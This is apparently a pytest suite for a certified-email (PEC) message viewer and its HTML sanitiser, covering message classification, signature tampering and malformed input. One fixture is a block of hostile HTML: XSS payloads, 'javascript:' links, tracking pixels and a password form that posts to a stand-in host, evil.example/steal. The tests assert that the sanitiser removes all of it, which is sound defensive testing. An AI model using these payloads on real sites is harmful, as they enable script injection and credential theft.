"""pecd.web.mailview: the reading view of a stored message, on real provider messages, on every
kind pecd builds, and on hostile bytes; the HTML sanitiser of the sandboxed frame."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import ORIGINAL, every_kind
from pecd.pec.pki import DevPki
from pecd.pec.vocab import Errore, TipoRicevuta
from pecd.web.mailview import (
    SUMMARY_ID_CHARS,
    SUMMARY_TEXT_CHARS,
    OriginalRef,
    PecKind,
    _decode_base64_cleaned,
    build_view,
    content_disposition,
    decode_base64,
    find_original,
    html_of,
    original_of,
    original_ref,
    part_of,
    safe_content_type,
    sanitize_html,
    summarize_head,
)
from pecd.web.timeline import BoundedCache

# --- real messages --------------------------------------------------------------------------------


def _expected_kind(manifest_type: str) -> PecKind:
    return PecKind.PLAIN if manifest_type.startswith("none") else PecKind(manifest_type)


def test_corpus_views(corpus_dir: Path, manifest: list[dict[str, str]]) -> None:
    for row in manifest:
        raw = (corpus_dir / row["file"]).read_bytes()
        v = build_view(raw)
        assert v.kind is _expected_kind(row["type"]), row["file"]
        # The list's cheap reading agrees with the full one on real messages.
        assert summarize_head(raw).kind is v.kind, row["file"]
        intact = row["notes"].startswith("cms-verify-noverify OK")
        if v.kind is PecKind.PLAIN:
            assert v.signature is None and v.original is not None
            continue
        assert v.signature is not None
        assert v.signature.valid is intact, row["file"]
        assert v.valid_pec is intact, row["file"]
        if not intact:
            assert v.errors, row["file"]


def test_corpus_envelope_unwrapped(corpus_dir: Path) -> None:
    raw = (
        corpus_dir / "posta-certificata__aruba__fabioportieri-xdcr-2022-02-00583.eml"
    ).read_bytes()
    v = build_view(raw)
    assert v.kind is PecKind.POSTA_CERTIFICATA and v.valid_pec
    assert v.signature is not None and "ARUBA PEC" in (v.signature.signer_subject or "")
    assert v.signature.signing_time is not None
    assert v.original is not None and v.original_is_wrapped
    o = v.original
    assert o.headers.subject == "[XDCR] xdcr_2022_02_00583.txt"
    assert o.headers.from_ == "Sviluppo DMIT <sviluppo@pec.datamanagementitalia.it>"
    assert o.text and o.html
    [att] = o.attachments
    assert att.filename == "xdcr_2022_02_00583.txt" and att.size == 14448
    got = part_of(raw_original(v, raw), att.index)
    assert got is not None and len(got[1]) == att.size
    d = v.daticert
    assert d is not None and d.identificativo == v.pec_msgid
    assert v.pec_msgid == "opec21010.20230818173714.75133.134.1.56@pec.aruba.it"
    assert v.tipo_ricevuta is TipoRicevuta.COMPLETA
    assert v.notice and "Messaggio di Posta Certificata" in v.notice


def raw_original(v: object, raw: bytes) -> bytes:
    """The wrapped original of an envelope, as the page's part links name it."""
    from pecd.pec.classify import classify

    c = classify(raw)
    assert c.postacert is not None
    return c.postacert


def test_corpus_delivery_receipt_completa_has_original(corpus_dir: Path) -> None:
    raw = (corpus_dir / "avvenuta-consegna__aruba__oca-fpa-it03339130126-00009.eml").read_bytes()
    v = build_view(raw)
    assert v.kind is PecKind.AVVENUTA_CONSEGNA and v.kind.is_receipt
    assert v.tipo_ricevuta is TipoRicevuta.COMPLETA
    assert v.daticert is not None and v.daticert.consegna == "l.battistini@pec.it"
    assert v.original is not None and v.original_is_wrapped
    assert [a.filename for a in v.original.attachments] == ["IT03339130126_00009.xml"]


def test_corpus_errore_consegna(corpus_dir: Path) -> None:
    v = build_view((corpus_dir / "errore-consegna__anon-aruba__biagiot-consegna.eml").read_bytes())
    assert v.kind is PecKind.ERRORE_CONSEGNA
    assert v.daticert is not None and v.daticert.errore is Errore.NO_DEST
    assert v.original is None
    assert v.notice and "mancata consegna" in v.notice


# --- every kind pecd builds -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(dev_pki: DevPki) -> dict[str, bytes]:
    return every_kind(dev_pki)


_BUILT_KINDS = {
    "busta-di-trasporto": (PecKind.POSTA_CERTIFICATA, True),
    "accettazione": (PecKind.ACCETTAZIONE, False),
    "non-accettazione": (PecKind.NON_ACCETTAZIONE, False),
    "non-accettazione-virus": (PecKind.NON_ACCETTAZIONE, False),
    "presa-in-carico": (PecKind.PRESA_IN_CARICO, False),
    "avvenuta-consegna-completa": (PecKind.AVVENUTA_CONSEGNA, True),
    "avvenuta-consegna-breve": (PecKind.AVVENUTA_CONSEGNA, True),
    "avvenuta-consegna-sintetica": (PecKind.AVVENUTA_CONSEGNA, False),
    "errore-consegna": (PecKind.ERRORE_CONSEGNA, False),
    "preavviso-12h": (PecKind.PREAVVISO_ERRORE_CONSEGNA, False),
    "preavviso-24h": (PecKind.PREAVVISO_ERRORE_CONSEGNA, False),
    "rilevazione-virus": (PecKind.RILEVAZIONE_VIRUS, False),
    "busta-di-anomalia": (PecKind.ANOMALIA, True),
}


def test_every_built_kind(built: dict[str, bytes]) -> None:
    assert set(built) == set(_BUILT_KINDS)
    for name, raw in built.items():
        kind, has_original = _BUILT_KINDS[name]
        v = build_view(raw)
        assert v.kind is kind, name
        assert summarize_head(raw).kind is kind, name
        assert v.signature is not None and v.signature.valid, name
        assert v.notice, name
        assert (v.original is not None) is has_original, name
        assert summarize_head(raw).virus is v.virus, name
        if kind is PecKind.ANOMALIA:
            assert v.daticert is None
            continue
        assert v.valid_pec, (name, v.errors)
        assert v.pec_msgid == "pecd.20260302101530.0123456789abcdef@pec.example.test", name
        assert v.client_msgid == "client-42@alice.laptop", name
    assert build_view(built["non-accettazione-virus"]).virus
    assert build_view(built["avvenuta-consegna-breve"]).tipo_ricevuta is TipoRicevuta.BREVE


def test_built_envelope_original(built: dict[str, bytes]) -> None:
    v = build_view(built["busta-di-trasporto"])
    o = v.original
    assert o is not None
    assert o.headers.from_ == "Alice Rossi <alice@pec.example.test>"
    assert o.headers.to == ("Bob <bob@pec.example.test>",)
    assert o.headers.cc == ("carol@pec.example.test",)
    assert o.headers.subject == "Fattura n. 12"
    # The wrapped original's Message-ID is the PEC msgid (spec section 6).
    assert o.headers.message_id == "<pecd.20260302101530.0123456789abcdef@pec.example.test>"
    assert o.text is not None and o.text.startswith("Ciao Bob.")
    [pdf] = o.attachments
    assert (pdf.filename, pdf.content_type) == ("f.pdf", "application/pdf")
    d = v.daticert
    assert d is not None and [r.address for r in d.destinatari] == [
        "bob@pec.example.test",
        "carol@pec.example.test",
    ]
    # A plain message: the message itself is the original, and its part numbers are the same.
    plain = build_view(ORIGINAL)
    assert plain.kind is PecKind.PLAIN and plain.signature is None
    assert plain.original is not None
    [same] = plain.original.attachments
    got = part_of(ORIGINAL, same.index)
    assert got is not None and got[1].startswith(b"%PDF-1.4")


def test_tampered_built_receipt_is_reported(built: dict[str, bytes]) -> None:
    raw = built["avvenuta-consegna-completa"].replace(b"Ciao Bob.", b"Ciao Bor.")
    v = build_view(raw)
    assert v.kind is PecKind.AVVENUTA_CONSEGNA
    assert v.signature is not None and not v.signature.valid
    assert v.signature.error_code == "digest-mismatch"
    assert not v.valid_pec and v.errors


# --- hostile and broken bytes ------------------------------------------------------------------------

_HOSTILE = [
    b"",
    b"\x00\xff" * 100,
    b"not a message at all",
    b"Subject: only a header",
    b"From: =?x-unknown?Q?=FF?=\r\nSubject: =?utf-8?B?////?=\r\n\r\nbody",
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n" * 3000,
    b"Content-Type: multipart/mixed\r\n\r\n--\r\n",
    # Nesting deeper than the parser follows.
    b"".join(
        f"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n".encode()
        for i in range(200)
    ),
    b"X-Ricevuta: avvenuta-consegna\r\nContent-Type: multipart/signed; boundary=z\r\n\r\n--z\r\n",
    b"X-Trasporto: posta-certificata\r\nContent-Type: text/plain; charset=rot13\r\n\r\nx",
    b'Content-Type: text/plain; charset="utf-7"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!',
    b"Subject: " + b"A" * 200_000 + b"\r\n\r\nx",
    b"Date: Mon, 99 Foo 99999 99:99:99 +9999\r\nSubject: d\r\n\r\n",
    b"Content-Type: message/rfc822\r\n\r\n" * 100,
]


@pytest.mark.parametrize("raw", _HOSTILE, ids=range(len(_HOSTILE)))
def test_hostile_bytes_give_a_view(raw: bytes) -> None:
    v = build_view(raw)
    assert v.size == len(raw)
    assert len(v.headers.subject) <= 2000
    summarize_head(raw)
    if v.original is not None:
        for a in v.original.attachments:
            assert part_of(raw, a.index) is not None or v.original_is_wrapped


def test_truncated_corpus_messages(corpus_dir: Path, manifest: list[dict[str, str]]) -> None:
    for row in manifest[:6]:
        raw = (corpus_dir / row["file"]).read_bytes()
        for cut in (len(raw) // 3, len(raw) // 2, len(raw) - 7):
            v = build_view(raw[:cut])
            if v.signature is not None:
                assert not v.signature.valid


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_random_bytes_never_raise(raw: bytes) -> None:
    build_view(raw)
    summarize_head(raw)
    part_of(raw, 0)


@settings(max_examples=60, deadline=None)
@given(st.integers(min_value=0, max_value=4000), st.binary(min_size=1, max_size=40))
def test_spliced_receipts_never_raise(at: int, junk: bytes) -> None:
    raw = _SPLICE_BASE
    build_view(raw[:at] + junk + raw[at:])


_SPLICE_BASE = (
    Path(__file__).parent
    / "data"
    / "pec-real"
    / "accettazione__aruba__oca-fpa-it03339130126-00009.eml"
).read_bytes()


# --- the list's header reading -------------------------------------------------------------------------


def test_summarize_head_kinds() -> None:
    s = summarize_head(
        b"From: =?utf-8?Q?Poste_=C3=A8?= <posta-certificata@pec.example>\r\n"
        b"Subject: =?utf-8?Q?CONSEGNA:_caff=C3=A8?=\r\n"
        b"X-RICEVUTA:  Errore-Consegna \r\nX-VerificaSicurezza: errore\r\n"
        b"X-Riferimento-Message-ID: <abc@client>\r\nMessage-ID: <r1@pec.example>\r\n"
        b"Date: Tue, 24 Nov 2026 10:00:00 +0100\r\n\r\nX-Trasporto: posta-certificata\r\n"
    )
    assert s.kind is PecKind.ERRORE_CONSEGNA and s.virus
    assert s.subject == "CONSEGNA: caffè"
    assert s.sender_address == "posta-certificata@pec.example"
    assert (s.message_id, s.riferimento) == ("r1@pec.example", "abc@client")
    assert s.date is not None and s.date.utcoffset() is not None
    assert summarize_head(b"X-Trasporto: errore\r\n\r\n").kind is PecKind.ANOMALIA
    assert summarize_head(b"X-Ricevuta: altro\r\n\r\n").kind is PecKind.PLAIN


# --- the sanitiser -----------------------------------------------------------------------------------------

_EVIL_HTML = """
<html><head><title>t</title><style>body{background:url(https://evil.example/s.png)}</style>
<script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css"></head>
<body onload="alert(2)">
<p onclick="alert(3)" style="color: red; background-image: url('https://evil.example/b.png');
 behavior: url(x.htc); width: expression(alert(4))">Gentile cliente</p>
<img src="https://evil.example/pixel.gif" onerror="alert(5)"><img src="//evil.example/p.gif">
<img src="cid:logo"><picture><source srcset="https://evil.example/x.webp"></picture>
<a href="javascript:alert(6)">js</a> <a href="JaVaScRiPt&#58;alert(7)">js2</a>
<a href="data:text/html,<script>alert(8)</script>">data</a> <a href="/settings">rel</a>
<a href="https://example.org/fattura" target="_self">fattura</a>
<form action="https://evil.example/steal"><input name="p" type="password"><button>Invia</button></form>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<svg onload="alert(9)"><script>alert(10)</script></svg><math><mi xlink:href="javascript:alert(11)">m</mi></math>
<table border="1" style="border-collapse: collapse"><tr><td bgcolor="#eee">cella</td></tr></table>
<div style="background: url(https://evil.example/bg.png)">bg</div>
<!-- <script>alert(12)</script> --><video poster="https://evil.example/p.png"></video>
</body></html>
"""


def test_sanitize_hostile_html() -> None:
    out = sanitize_html(_EVIL_HTML)
    assert out.blocked
    low = out.html.lower()
    for bad in (
        "<script", "alert(", "onload", "onclick", "onerror", "<img", "<style", "<meta", "<base",
        "<link", "<form", "<input", "<button", "<iframe", "<object", "<embed", "<svg", "<math",
        "<video", "<picture", "<source", "javascript", "data:", "url(", "evil.example",
        "expression", "behavior", "srcset", "/settings", "cid:", "<!--", "_self",
    ):  # fmt: skip
        assert bad not in low, bad
    # What a reader needs survives: text, tables, safe styles, links that open a new tab.
    assert "Gentile cliente" in out.html and "cella" in out.html
    assert 'style="color:red"' in out.html.replace("; ", ";").replace(": ", ":")
    assert "<table" in low and "<td" in low
    links = re.findall(r"<a [^>]*>", out.html)
    good = [a for a in links if "https://example.org/fattura" in a]
    assert good and 'target="_blank"' in good[0] and 'rel="noopener noreferrer"' in good[0]
    assert all("href" not in a or "https://example.org/" in a for a in links)


def test_sanitize_plain_html_is_not_flagged() -> None:
    out = sanitize_html("<p>Buongiorno, <b>ecco</b> la fattura.</p>")
    assert not out.blocked and out.html == "<p>Buongiorno, <b>ecco</b> la fattura.</p>"


def test_download_headers() -> None:
    assert safe_content_type("text/html") == "application/octet-stream"
    assert safe_content_type("image/svg+xml") == "application/octet-stream"
    assert safe_content_type("application/xhtml+xml") == "application/octet-stream"
    assert safe_content_type("Application/PDF") == "application/pdf"
    cd = content_disposition('fattura "n.1"\r\n€.pdf')
    assert cd.startswith("attachment; ") and "\r" not in cd and "\n" not in cd
    assert "filename*=UTF-8''fattura%20%22n.1%22%0D%0A%E2%82%AC.pdf" in cd


# --- the original found again, without a view ---------------------------------------------------


def _every_message(
    corpus_dir: Path, manifest: list[dict[str, str]], built: dict[str, bytes]
) -> Iterator[tuple[str, bytes]]:
    for row in manifest:
        yield row["file"], (corpus_dir / row["file"]).read_bytes()
    yield from built.items()
    yield "plain", ORIGINAL
    for i, raw in enumerate(_HOSTILE):
        yield f"hostile-{i}", raw
    # Line endings the signed part is canonicalised from: not found as described, the long way.
    yield "lf", built["busta-di-trasporto"].replace(b"\r\n", b"\n")


def test_original_found_again_as_the_view_found_it(
    corpus_dir: Path, manifest: list[dict[str, str]], built: dict[str, bytes]
) -> None:
    """On every real, built and hostile message: where the view found the original, the MIME
    structure alone finds the same bytes (or says it cannot, and the long way gives them), so
    that the frame and the part numbers of the downloads are the reading page's."""
    for name, raw in _every_message(corpus_dir, manifest, built):
        v = build_view(raw)
        ref = original_ref(v)
        long_ref, long_data = original_of(raw)
        assert long_ref == ref, name
        if ref is None:
            assert v.original is None and long_data is None, name
            continue
        assert long_data == v.original_raw, name
        found = find_original(raw, ref)
        if found is not None:
            assert bytes(found) == v.original_raw, name
        else:
            assert name == "lf", name
        assert v.original is not None
        assert html_of(v.original_raw or b"") == v.original.html, name
        for a in v.original.attachments:
            got = part_of(found if found is not None else long_data or b"", a.index)
            assert got is not None and got[0] == a, name
    # A ref that does not match what is there (another file under the same name): not found.
    env = (
        corpus_dir / "posta-certificata__aruba__fabioportieri-xdcr-2022-02-00583.eml"
    ).read_bytes()
    ref = original_ref(build_view(env))
    assert ref is not None
    assert find_original(env, OriginalRef(True, ref.size, b"\0" * 32)) is None
    assert find_original(env, OriginalRef(True, ref.size + 1, ref.sha256)) is None
    assert find_original(ORIGINAL, OriginalRef(False, len(ORIGINAL) - 1, b"")) is None


def test_summary_is_bounded() -> None:
    """A header block of 64 KB gives a list line of a few thousand characters at most."""
    addrs = ", ".join(f'"{"N" * 40}" <u{i}@{"d" * 40}.example>' for i in range(700))
    head = (
        f"Message-ID: <{'m' * 1500}>\r\nX-Riferimento-Message-ID: <{'r' * 1500}>\r\n"
        f"Subject: {'S' * 7000}\r\n" + f"From: {addrs[:7900]}\r\n" * 8
    ).encode()[: 64 * 1024]
    s = summarize_head(head)
    assert len(s.from_) <= SUMMARY_TEXT_CHARS and len(s.subject) <= SUMMARY_TEXT_CHARS
    assert len(s.message_id) <= SUMMARY_ID_CHARS and len(s.riferimento) <= SUMMARY_ID_CHARS
    assert s.subject.startswith("SSS") and s.message_id.startswith("mmm")
    total = len(s.from_) + len(s.subject) + len(s.message_id) + len(s.riferimento)
    assert total <= 2 * (SUMMARY_TEXT_CHARS + SUMMARY_ID_CHARS)


def test_bounded_cache_by_bytes_and_entries() -> None:
    cache: BoundedCache[int, str] = BoundedCache(max_items=100, max_bytes=10_000)
    for i in range(1000):
        cache.put(i, "x", 1_000)
        assert cache.bytes <= 10_000 and len(cache) <= 10
    assert cache.get(999) == "x" and cache.get(0) is None
    cache.put(5000, "huge", 20_000)  # heavier than the whole bound: not kept
    assert cache.get(5000) is None and cache.bytes <= 10_000
    cache.get(991)  # used: kept over the others
    for i in range(2000, 2009):
        cache.put(i, "y", 1_000)
    assert cache.get(991) == "x" and cache.get(992) is None
    small: BoundedCache[int, str] = BoundedCache(max_items=3, max_bytes=10**9)
    for i in range(10):
        small.put(i, "z", 1)
    assert len(small) == 3 and small.bytes == 3
    cache.put(991, "x", 500)  # replaced: weighed again
    assert cache.bytes == 9_500


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=300),
    st.lists(st.sampled_from([b"\r\n", b" ", b"=", b"==", b"!", b"\x00", b"\xff"]), max_size=8),
    st.lists(st.integers(min_value=0, max_value=400), max_size=8),
)
def test_base64_read_straight_as_when_cleaned_first(
    data: bytes, junk: list[bytes], at: list[int]
) -> None:
    """The decoding of a base64 body straight from the message gives what cleaning it first
    gave, on well-formed bodies (wrapped in lines) and on bodies with stray bytes and padding."""
    encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
    for piece, pos in zip(junk, at, strict=False):
        encoded = encoded[:pos] + piece + encoded[pos:]
    for body in (encoded, encoded.rstrip(b"=\r\n"), base64.b64encode(data)):
        assert decode_base64(memoryview(body)) == _decode_base64_cleaned(body)
    assert decode_base64(base64.encodebytes(data)) == data
